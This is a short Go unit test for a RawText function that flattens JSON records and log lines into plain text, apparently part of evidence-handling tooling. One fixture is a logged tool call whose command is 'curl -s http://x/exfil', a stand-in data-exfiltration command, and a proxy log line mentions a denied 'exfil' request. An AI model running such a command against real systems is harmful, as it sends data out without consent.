package evidence

import "testing"

func TestRawText(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`{"v":1,"type":"tool_call","args":{"cmd":"curl -s http://x/exfil"},"ok":true,"n":null}`, `1 tool_call curl -s http://x/exfil `},
		{` [ {"a" : "b\"c" , "d":-1.5e3} ]`, `b\"c -1.5e3 `},
		{`{"k":"unterminated`, `unterminated `},
		{`{"k":""}`, ` `},
		{`1627833600.123    250 10.0.3.7 TCP_DENIED/403 "exfil"`, `1627833600.123    250 10.0.3.7 TCP_DENIED/403 "exfil"`},
		{`{"\u00e9t\u00e9":"value","x":"a\\"}`, `value a\\ `},
	} {
		if got := RawText(c.in); got != c.want {
			t.Errorf("RawText(%s) = %q, want %q", c.in, got, c.want)
		}
	}
}
